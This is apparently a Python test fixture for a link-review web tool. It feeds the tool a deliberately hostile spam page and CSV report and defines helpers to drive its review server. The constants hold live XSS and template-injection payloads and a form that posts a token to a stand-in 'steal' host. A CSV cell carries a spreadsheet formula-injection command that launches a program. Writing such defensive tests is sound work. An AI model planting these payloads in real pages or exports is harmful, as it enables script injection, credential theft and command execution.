"""A review server as a person starts it, over a store with the demonstration and one hostile page."""

import csv
import http.client
import json
import re
import signal
import time
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlencode, urlsplit

from store.database import open_store
from store.models import Review
from tests.linkwitness.program import linkwitness, started
from tests.web import shop
from tests.web.cases import CASES, HOSTS
from tests.web.model import LIKELY_SPAM, Host, Response
from tests.web.report import write_ahrefs
from tests.web.server import WebServer

HOSTILE = "hostile-page.test"
STORY = "basketball-weiden-de.test"
"""Of the founding story."""
PAYLOAD = (
    '"><script>window.pwned=1</script><img src=x onerror="window.pwned=1"><svg onload=window.pwned=1>{{7*7}}'
)
"""Tries to leave an attribute, to run, to load and to be evaluated."""
SHOWN = tuple(case for case in CASES if case.expect.judgements & LIKELY_SPAM)
"""Cases that may be flagged: the queue is made of them."""
TARGET = "https://www.parfumerie-lorchestre.test/"
PAGE = f"""<html><head><title>{PAYLOAD.replace("<", "&lt;")}</title><script>window.pwned=1</script>
<meta http-equiv=refresh content="99;url=http://elsewhere.test/"></head><body onload="window.pwned=1">
<h1>cheap offers</h1><p>one two three four five</p><div style="position:absolute;left:-12623px">
{"".join(f'<a href="http://casino{n}.test/">casino {n}</a> ' for n in range(12))}
<a href="{TARGET}">{PAYLOAD.replace("<", "&lt;")}</a></div>
<iframe src="http://elsewhere.test/frame"></iframe><img src="http://elsewhere.test/pixel.png">
<form action="http://elsewhere.test/steal"><input name=token></form></body></html>"""


def reviewed(folder: Path) -> None:
    """Import, crawl and analyse the demonstration and the hostile page, through the command line."""
    page = Response(status=200, body=PAGE.encode(), headers=(("Content-Type", "text/html"),))
    hosts = (*HOSTS, Host(name=HOSTILE, pages={"/p": page}, unknown=Response(status=404)))
    addresses = json.dumps({host.name: "{address}" for host in hosts})
    name = shop.PROPERTY.name
    prefix = shop.PROPERTY.asset_prefixes[0]
    linkwitness(folder, "property", "add", name, "--asset-host", prefix)
    report = folder / "hostile.csv"
    with report.open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(
            [
                "Referring page title",
                "Referring page URL",
                "Target URL",
                "Left context",
                "Anchor",
                "Right context",
            ]
        )
        rows.writerow(
            [PAYLOAD, f"http://{HOSTILE}/p", TARGET, PAYLOAD, PAYLOAD, f"=cmd|' /C calc'!A0{PAYLOAD}"]
        )
    for path in (write_ahrefs(SHOWN, folder), report):
        told = linkwitness(folder, "import", str(path), "--property", name)
        assert told.code == 0, told.err
    with WebServer(hosts) as web:
        known = addresses.replace("{address}", web.address)
        told = linkwitness(folder, "crawl", "--property", name, connect_to=known, delay="0", loads="1")
        assert told.code == 0, told.err
    told = linkwitness(folder, "analyse", "--property", name)
    assert told.code == 0, told.err


@dataclass(slots=True)
class Answer:
    """What came back."""

    status: int
    headers: Mapping[str, str]
    text: str


@dataclass(slots=True)
class Served:
    """A running server, and one browser's cookies."""

    address: str
    cookies: str = ""

    @property
    def url(self) -> str:
        """Where it is."""
        return f"http://{self.address}"

    def get(self, path: str, **headers: str) -> Answer:
        """Ask for a page."""
        return self._ask("GET", path, "", headers)

    def post(self, path: str, fields: list[tuple[str, str]], **headers: str) -> Answer:
        """Send a form as a page of the server would."""
        sent = {"Origin": self.url, "Content-Type": "application/x-www-form-urlencoded", **headers}
        return self._ask("POST", path, urlencode(fields), sent)

    def token(self, path: str = "/queue?decided=all") -> str:
        """Read the token off a page."""
        found = re.search(r'name="token" value="(\w+)"', self.get(path).text)
        assert found
        return found[1]

    def _ask(self, method: str, path: str, body: str, headers: Mapping[str, str]) -> Answer:
        connection = http.client.HTTPConnection(self.address, timeout=30)
        cookies = {"Cookie": self.cookies} if self.cookies else {}
        connection.request(method, path, body or None, {**cookies, **headers})
        response = connection.getresponse()
        text = response.read().decode("utf-8", "replace")
        cookie = response.getheader("Set-Cookie")
        if cookie:
            self.cookies = cookie.partition(";")[0]
        connection.close()
        return Answer(response.status, {name.lower(): value for name, value in response.getheaders()}, text)


@contextmanager
def served(folder: Path, *words: str, command: str = "review") -> Iterator[Served]:
    """Run `linkwitness review`, or another server, on a free port until the context ends, then stop it as Ctrl-C does."""
    process = started(folder, command, "--property", shop.PROPERTY.name, "--port", "0", *words)
    try:
        while not (line := process.written()[0].partition("\n")[0]) and process.poll() is None:
            time.sleep(0.01)
        found = re.search(r"http://\S+", line)
        assert found, (line, process.written())
        yield Served(urlsplit(found[0]).netloc.replace("0.0.0.0", "127.0.0.1"))
    finally:
        process.send_signal(signal.SIGINT)
        process.wait(30)
        _, errors = process.written()
        assert "Traceback" not in errors, errors


def reviews(folder: Path) -> list[tuple[str, str, str, str]]:
    """Return what was decided, oldest first: subject, decision, level, note."""
    store = open_store(f"sqlite:///{folder / 'linkwitness-data' / 'linkwitness.db'}")
    try:
        with store.read() as session:
            rows = session.query(Review).order_by(Review.id)
            return [(row.subject, row.decision, row.level, row.note) for row in rows]
    finally:
        store.close()


def ids(page: Answer) -> list[str]:
    """Return the domains of a queue page, by key."""
    return re.findall(r'data-id="(-?\d+)"', page.text)
